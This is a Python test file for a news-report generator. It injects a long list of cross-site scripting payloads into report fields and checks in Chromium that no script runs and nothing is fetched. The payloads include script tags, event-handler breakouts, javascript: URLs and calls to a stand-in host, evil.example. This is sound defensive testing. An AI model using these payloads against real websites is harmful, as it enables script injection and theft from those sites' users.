"""Scripts in every text that an article brings along, through the report, in a real browser."""

import os
import shutil
from dataclasses import replace

import pytest
from playwright.sync_api import sync_playwright

from standoff import report
from tests.report.conftest import filled
from tests.report.news import story
from tests.report.test_browser import ARGUMENTS

RUNS = (
    *("alert(1)", "confirm(1)", "prompt(1)", "print()", "fetch('https://evil.example/')"),
    "import('https://evil.example/x.js')",
)
FORMS = (
    "<script>{}</script>",
    "<ScRiPt>{}</sCrIpT>",
    "<script src=https://evil.example/x.js>{}</script>",
    "</script><script>{}</script>",
    "<img src=x onerror={}>",
    '"><img src=https://evil.example/p.png onerror="{}">',
    "'><svg onload={}>",
    "</title><script>{}</script>",
    "</style><svg/onload={}>",
    "</textarea><body onload={}>",
    "--><script>{}</script>",
    "]]><script>{}</script>",
    '" autofocus onfocus="{}" x="',
    "' onmouseover='{}' x='",
    "<iframe srcdoc='<script>{}</script>'></iframe>",
    "<iframe src=javascript:{}></iframe>",
    "<a href=javascript:{}>click</a>",
    "<details open ontoggle={}>",
    "<video><source onerror={}></video>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<base href=https://evil.example/><script>{}</script>",
    "<link rel=stylesheet href=https://evil.example/x.css onload={}>",
    "<style>@import 'https://evil.example/{}'</style>",
    "<math><mi xlink:href=javascript:{}>x</mi></math>",
    "&lt;script&gt;{}&lt;/script&gt;",
)
PAYLOADS = tuple(form.replace("{}", run) for run in RUNS for form in FORMS)
EACH = 6
"""Payloads of each report: as many as there are places for them."""


def spiteful(reading, some):
    """`reading` with payloads in title, author, body, address, place and note."""
    document = reading.document
    text = document.text + "\n\n" + "\n".join(some)
    document = replace(
        document,
        text=text,
        title=some[0],
        byline=some[1],
        outlet=some[2],
        url=f"https://paper.example/{document.key}?{some[3]}",
    )

    def told(claim):
        event = claim.event
        if event is not None:
            event = replace(
                event,
                places=tuple(replace(place, name=some[4]) for place in event.places),
                actors=tuple(replace(party, name=some[4]) for party in event.actors),
            )
        holders = tuple(replace(one, resolved=some[5]) if one.source else one for one in claim.holders)
        return replace(claim, event=event, holders=holders, because=some[0])

    return replace(reading, document=document, claims=tuple(map(told, reading.claims))).verify()


@pytest.fixture(scope="module")
def folders(tmp_path_factory):
    """Reports that together show every payload."""
    place = tmp_path_factory.mktemp("scripts")
    written = []
    readings = story()
    size = EACH * len(readings)
    for number, start in enumerate(range(0, len(PAYLOADS), size)):
        # Round again, so that the last report has enough of them.
        some = [PAYLOADS[(start + n) % len(PAYLOADS)] for n in range(size)]
        told = [spiteful(one, some[n * EACH : (n + 1) * EACH]) for n, one in enumerate(readings)]
        with filled(place / f"{number}.db", told) as ledger:
            for claim in (group.claims[0] for group in ledger.claims()[:2]):
                ledger.judge("wrong-reading", claim, by=some[0], why=some[1])
            written.append(report.write(ledger, place / f"report{number}").parent)
    return written


def test_no_script_runs_and_nothing_is_fetched(folders, held):
    path = shutil.which("chromium")
    if path is None and os.environ.get("CI") != "true":
        pytest.skip("there is no Chromium; install it with: apt-get update && apt-get install -y chromium")
    trouble, pages = [], 0
    with sync_playwright() as run:
        browser = run.chromium.launch(executable_path=path, args=ARGUMENTS)
        page = browser.new_page()
        page.on("dialog", lambda dialog: (trouble.append(f"dialog {dialog.message}"), dialog.dismiss()))
        page.on("pageerror", lambda error: trouble.append(f"error {error}"))
        page.on(
            "request",
            lambda one: (
                None if one.url.startswith(("file://", "data:")) else trouble.append(f"request {one.url}")
            ),
        )
        for folder in folders:
            for name in sorted(folder.rglob("*.html")):
                html = name.read_text(encoding="utf-8")
                assert "default-src 'none'" in html.split("</head>")[0], name
                page.goto(name.as_uri())
                pages += 1
        browser.close()
    assert trouble == []
    held(
        "script in text",
        f"{len(PAYLOADS)} payloads in title, author, body, URL, place and note; {pages} pages in Chromium",
        "0 dialogs, 0 requests outside, a content security policy on every page",
    )
